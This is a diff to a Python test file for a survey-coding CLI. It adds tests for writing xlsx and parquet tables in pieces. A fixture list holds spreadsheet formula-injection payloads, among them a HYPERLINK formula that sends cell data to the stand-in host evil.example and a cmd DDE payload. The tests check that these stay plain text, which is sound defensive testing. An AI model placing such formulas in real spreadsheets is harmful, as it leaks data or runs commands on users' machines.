@@ -13,7 +13,8 @@ from click.testing import CliRunner
 from kotoba_code.cli.app import cli
 from kotoba_code.errors import OutputError
 from kotoba_code.io.readers import read_table
-from kotoba_code.io.writers import XLSX_MAX_ROWS, write_table
+from kotoba_code.io import writers
+from kotoba_code.io.writers import XLSX_MAX_ROWS, TableAppender, write_table
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE = [LINK, "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "#N/A", "#DIV/0!", "=", "普通の回答"]
@@ -85,6 +86,69 @@ def test_xlsx_overlong_cell_and_too_many_rows_are_catalogue_errors(tmp_path):
     with pytest.raises(OutputError, match=r"\[E904\].*1,048,577 rows, more than the 1,048,576"):
         write_table(big, tmp_path / "big.xlsx")
     assert not (tmp_path / "big.xlsx").exists()
+
+
+def test_xlsx_in_pieces_keeps_text_as_text_and_names_rows_of_the_whole_table(tmp_path, monkeypatch):
+    df = pd.DataFrame({"id": HOSTILE, "count": range(len(HOSTILE))})
+    with TableAppender(tmp_path / "p.xlsx") as table:
+        for i in range(0, len(df), 4):
+            table.append(df.iloc[i : i + 4])
+    assert set(HOSTILE) <= set(_no_live_cells(tmp_path / "p.xlsx"))
+    pd.testing.assert_frame_equal(pd.read_excel(tmp_path / "p.xlsx"), pd.read_excel(write_table(df, tmp_path / "w.xlsx")))
+    # A bad value in the second piece: its row in the whole sheet (header = row 1), and no file.
+    with pytest.raises(OutputError, match=r"\[E902\].*bad\.xlsx: row 5, column 'text'"):
+        with TableAppender(tmp_path / "bad.xlsx") as table:
+            table.append(pd.DataFrame({"text": ["a", "b"]}))
+            table.append(pd.DataFrame({"text": ["ok", "\x02"]}))
+    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 5)
+    with pytest.raises(OutputError, match=r"\[E904\].*big\.xlsx: 6 rows, more than the 5"):
+        with TableAppender(tmp_path / "big.xlsx") as table:
+            table.append(pd.DataFrame({"n": [1, 2, 3]}))
+            table.append(pd.DataFrame({"n": [4, 5]}))
+    assert not (tmp_path / "bad.xlsx").exists() and not (tmp_path / "big.xlsx").exists()
+    assert not list(tmp_path.glob(".*.part"))
+
+
+def test_parquet_in_pieces_reads_back_as_one_table_and_refuses_a_changed_type(tmp_path):
+    df = pd.DataFrame({"id": [f"r{i}" for i in range(7)], "k": [0, 1, 1, 0, 0, 1, 0], "g": list("東西東西東西東")})
+    with TableAppender(tmp_path / "p.parquet") as table:
+        for i in range(0, 7, 3):
+            table.append(df.iloc[i : i + 3])
+    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "p.parquet"), df)
+    with pytest.raises(OutputError, match=r"\[E905\].*q\.parquet: the rows from row 3 on"):
+        with TableAppender(tmp_path / "q.parquet") as table:
+            table.append(pd.DataFrame({"note": [None, None]}))  # no type yet: all empty
+            table.append(pd.DataFrame({"note": ["メモ"]}))
+    assert not (tmp_path / "q.parquet").exists() and not list(tmp_path.glob(".*.part"))
+    with TableAppender(tmp_path / "empty.parquet"):
+        pass
+    assert pd.read_parquet(tmp_path / "empty.parquet").empty
+
+
+def test_code_to_parquet_in_chunks_from_a_parquet_input_with_empty_cells(tmp_path):
+    # The traps for a Parquet written in pieces: a column empty in the
+    # whole first chunk, integers with a gap (float in pandas). Metadata come
+    # out as text in every chunk, so the pieces fit together.
+    rows = pd.DataFrame(
+        {
+            "id": [f"r{i}" for i in range(6)],
+            "n": pd.array([1, 2, 3, None, 5, 6], dtype="Int64"),
+            "note": [None, None, None, "メモ", None, "x"],
+            "answer": ["温度差がある", "", "ノウハウがない", "連携", "温度差", "なし"],
+        }
+    )
+    src = tmp_path / "in.parquet"
+    rows.to_parquet(src)
+    outs = {}
+    for chunk in ("0", "3"):
+        out = tmp_path / f"coded_{chunk}.parquet"
+        args = ["code", str(src), "--text-col", "answer", "--id-col", "id", "--codebook", "welfare_employment"]
+        r = CliRunner().invoke(cli, [*args, "--no-cache", "--chunk-size", chunk, "-o", str(out)])
+        assert r.exit_code == 0 and "whole instead" not in r.output, r.output
+        outs[chunk] = pd.read_parquet(out)
+    pd.testing.assert_frame_equal(outs["3"], outs["0"])
+    assert outs["3"]["n"].tolist() == ["1", "2", "3", "", "5", "6"]
+    assert outs["3"]["note"].tolist() == ["", "", "", "メモ", "", "x"]
 
 
 CODEBOOK = """\
